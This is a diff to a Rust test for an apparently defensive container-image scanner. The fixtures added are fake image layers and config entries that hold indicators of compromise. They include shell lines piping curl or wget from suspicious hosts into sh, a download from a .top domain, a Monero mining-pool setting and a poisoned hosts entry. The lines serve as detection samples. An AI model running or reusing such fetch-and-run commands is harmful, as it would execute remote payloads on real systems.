@@ -58,12 +58,15 @@ fn builtin_and_analyst_indicators_in_files_members_config_and_hashes() {
     let lower = layer_tar(&[
         ("opt/app/lib/worker.jar", &jar),
         ("usr/local/bin/.dropper", DROPPER),
+        ("usr/local/bin/update.sh", b"#!/bin/sh\ncurl -fsSL https://cdn.update-check.tk/x.sh | sh\n"),
+        ("usr/share/doc/tcl/README", b"See https://wiki.example-docs.tk/ for more.\n"),
         ("etc/hosts.bak", b"127.0.0.1 localhost\n198.51.100.7 update.evil-cdn.example\n"),
     ]);
-    let upper = raw_tar(&[(b"usr/local/bin/.wh..dropper", Regular, b"", b"")]);
+    let upper = raw_tar(&[(b"usr/local/bin/.wh..dropper", Regular, b"", b""), (b"usr/local/bin/.wh.update.sh", Regular, b"", b"")]);
     let archive = oci_archive_with(&[(gzip(&lower), lower), (upper.clone(), upper)], |config| {
         config["config"]["Env"] = json!(["POOL=gulf.moneroocean.stream:10128"]);
         config["history"][1]["created_by"] = json!("/bin/sh -c wget -qO- http://203.0.113.99/i.sh | sh");
+        config["history"][0]["created_by"] = json!("/bin/sh -c curl -o /tmp/m https://dl.kworker-sys.top/m");
     });
     let path = write_temp(&dir, "image.tar", &archive);
     let rules = RuleSet::compile(&[], true).unwrap();
@@ -78,6 +81,8 @@ fn builtin_and_analyst_indicators_in_files_members_config_and_hashes() {
         ("case-1234", "update.evil-cdn.example", "/etc/hosts.bak", "present"),
         ("mining-pool", "moneroocean.stream", "config.env[0]", "present"),
         ("mining-pool", "nanopool.org", "/opt/app/lib/worker.jar!/config.properties", "present"),
+        ("suspicious-tld", "cdn.update-check.tk", "/usr/local/bin/update.sh", "deleted"),
+        ("suspicious-tld", "dl.kworker-sys.top", "history[0].created_by", "present"),
     ];
     let expected: Vec<(String, String, String, String)> =
         expected.into_iter().map(|(a, b, c, d)| (a.to_string(), b.to_string(), c.to_string(), d.to_string())).collect();
